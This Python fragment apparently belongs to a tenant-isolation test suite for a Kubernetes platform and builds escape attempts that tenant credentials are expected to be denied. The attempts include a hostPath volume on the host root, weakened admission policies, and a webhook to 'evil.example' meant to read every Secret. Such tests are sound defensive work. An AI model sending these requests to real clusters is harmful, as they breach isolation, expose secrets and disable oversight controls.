    grant = thing(f"{group}/v1beta1", "ReferenceGrant", "escape", OTHER,
                  spec={"from": [{"group": group, "kind": "HTTPRoute", "namespace": OWN}], "to": [{"group": "", "kind": "Secret"}]})  # fmt: skip
    yield from made("T23", "a grant", f"/apis/{group}/v1beta1/namespaces/{OTHER}/referencegrants", grant)
    rule = {"host": "register.water1.pool.jiangnan.example"}
    ingress = thing("networking.k8s.io/v1", "Ingress", "escape", OWN, spec={"rules": [rule]})
    yield from made("T22", "an Ingress", f"/apis/networking.k8s.io/v1/namespaces/{OWN}/ingresses", ingress)
    yield from _proxy_settings(group)


def _proxy_settings(group: str) -> Iterator[Attempt]:
    """T24: a tenant's text that would become the proxy's configuration."""
    envoy = "gateway.envoyproxy.io"
    place = f"/apis/{envoy}/v1alpha1/namespaces/{OWN}"
    target = {"group": group, "kind": "HTTPRoute", "name": "x"}
    patch = thing(
        f"{envoy}/v1alpha1",
        "EnvoyPatchPolicy",
        "escape",
        OWN,
        spec={"type": "JSONPatch", "targetRef": target, "jsonPatches": []},
    )
    yield from made("T24", "a patch of Envoy", f"{place}/envoypatchpolicies", patch)
    policy = thing(
        f"{envoy}/v1alpha1",
        "SecurityPolicy",
        "escape",
        OWN,
        spec={"targetRefs": [target], "authorization": {"defaultAction": "Allow"}},
    )
    yield from made("T24", "a policy that lets everybody in", f"{place}/securitypolicies", policy)
    backend = thing(
        f"{envoy}/v1alpha1",
        "Backend",
        "escape",
        OWN,
        spec={"endpoints": [{"ip": {"address": "10.20.2.31", "port": 80}}]},
    )
    yield from made("T24", "a Backend", f"{place}/backends", backend)


def claims(read: Read) -> Iterator[Attempt]:
    """T28: what others store."""
    place = f"{CORE}/namespaces/{OWN}/persistentvolumeclaims"
    base: Body = {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": "1Gi"}}}
    wanted: dict[str, Body] = {
        "of no class, by a volume's name": {"storageClassName": "", "volumeName": "rs-nas-1-a"},
        "of a class that nobody counts": {"storageClassName": "gp3"},
        "of attributes that nobody counts": {"storageClassName": "archive", "volumeAttributesClassName": "gold"},
        "of a tier that is not granted": {"storageClassName": "archive", "volumeName": "rs-nas-1-a"},
        "that copies another namespace's": {
            "storageClassName": "archive",
            "dataSourceRef": {"kind": "PersistentVolumeClaim", "name": "x", "namespace": OTHER, "apiGroup": ""},
        },
    }
    for words, spec in wanted.items():
        claim = thing("v1", "PersistentVolumeClaim", "escape", OWN, spec=base | spec)
        yield from made("T28", f"a claim {words}", place, claim, nobody=True)
    for mark, value in CONTROLLERS_WORDS.items():
        claim = thing(
            "v1",
            "PersistentVolumeClaim",
            "escape",
            OWN,
            spec=base | {"storageClassName": "archive", "volumeName": "rs-nas-1-a"},
        )
        claim["metadata"]["annotations"] = {mark: value}
        yield from made("T28", f"a claim with {mark}", place, claim, nobody=True)
    volume = f"{CORE}/persistentvolumes/rs-nas-1-a"
    live = read(volume)
    mine = {"spec": {"claimRef": {"namespace": OWN, "name": "escape"}}}
    yield from changed("T28", "a volume reserved for oneself", volume, live, mine)
    body = thing(
        "v1",
        "PersistentVolume",
        "mine",
        spec={"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}},
    )
    yield from made("T28", "a volume of the host", f"{CORE}/persistentvolumes", body, by_roles=True)


def cluster(read: Read) -> Iterator[Attempt]:
    """T6, T31, T32: kinds of the whole cluster, the rules themselves among them. Roles stand against these."""
    for kind in ("validatingadmissionpolicies", "validatingadmissionpolicybindings"):
        path = f"{ADMISSION}/{kind}/commonpool-owned"
        live = read(path)
        patch: Body = (
            {"spec": {"failurePolicy": "Ignore"}}
            if kind.endswith("policies")
            else {"spec": {"validationActions": ["Audit"]}}
        )
        yield from changed("T32", f"{kind} weakened", path, live, patch, by_roles=True)
        yield from gone("T32", kind, path, by_roles=True)
    for kind in ("mutatingadmissionpolicies", "validatingwebhookconfigurations", "mutatingwebhookconfigurations"):
        yield Attempt("T32", f"{kind} deleted", "DELETE", f"{ADMISSION}/{kind}", by_roles=True)
    hook = {
        "name": "a.b.c",
        "clientConfig": {"url": "https://evil.example"},
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
    }
    body = thing("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "mine", webhooks=[hook])
    yield from made(
        "T6", "a webhook that reads every Secret", f"{ADMISSION}/mutatingwebhookconfigurations", body, by_roles=True
    )
    makes: dict[str, tuple[str, Body]] = {
        "a PriorityClass": ("/apis/scheduling.k8s.io/v1/priorityclasses", thing("scheduling.k8s.io/v1", "PriorityClass", "mine", value=999999999)),
        "a RuntimeClass": ("/apis/node.k8s.io/v1/runtimeclasses", thing("node.k8s.io/v1", "RuntimeClass", "mine", handler="runc")),
        "a StorageClass": ("/apis/storage.k8s.io/v1/storageclasses", thing("storage.k8s.io/v1", "StorageClass", "mine", provisioner="x.example/y")),
        "a machine": (f"{CORE}/nodes", thing("v1", "Node", "mine")),
        "a kind": ("/apis/apiextensions.k8s.io/v1/customresourcedefinitions", thing("apiextensions.k8s.io/v1", "CustomResourceDefinition", "as.b.example", spec={
            "group": "b.example", "names": {"plural": "as", "kind": "A"}, "scope": "Cluster",
            "versions": [{"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": {"type": "object"}}}]})),
        "an API service": ("/apis/apiregistration.k8s.io/v1/apiservices", thing("apiregistration.k8s.io/v1", "APIService", "v1.b.example", spec={
            "group": "b.example", "version": "v1", "groupPriorityMinimum": 1, "versionPriority": 1, "service": {"name": "a", "namespace": OWN}})),
        "a flow schema": ("/apis/flowcontrol.apiserver.k8s.io/v1/flowschemas", thing("flowcontrol.apiserver.k8s.io/v1", "FlowSchema", "mine", spec={
            "priorityLevelConfiguration": {"name": "exempt"}})),
    }  # fmt: skip
    for words, (path, found) in makes.items():
        yield from made("T6", words, path, found, by_roles=True)
    node = f"{CORE}/nodes/rs-01"
    yield from changed(
        "T30", "a machine's flavor", node, read(node), {"metadata": {"labels": {"commonpool.dev/flavor": "secure"}}}
    )
    yield from changed("T30", "a machine closed", node, read(node), {"spec": {"unschedulable": True}}, by_roles=True)
    request = thing("certificates.k8s.io/v1", "CertificateSigningRequest", "mine", spec={
        "request": "eA==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]})  # fmt: skip
    yield Attempt(
        "T31",
        "a certificate",
        "POST",
        "/apis/certificates.k8s.io/v1/certificatesigningrequests",
        request,
        by_roles=True,
        nobody=True,
    )


CATALOGUE: dict[str, Callable[[Read], Iterator[Attempt]]] = {
    "namespaces": namespaces,
    "belongings": belongings,
    "marks": marks,
    "rights": rights,
    "tokens": tokens,
    "pods": pods,
    "burdens": burdens,
    "neighbours": neighbours,
    "services": services,
    "claims": claims,
    "cluster": cluster,
}
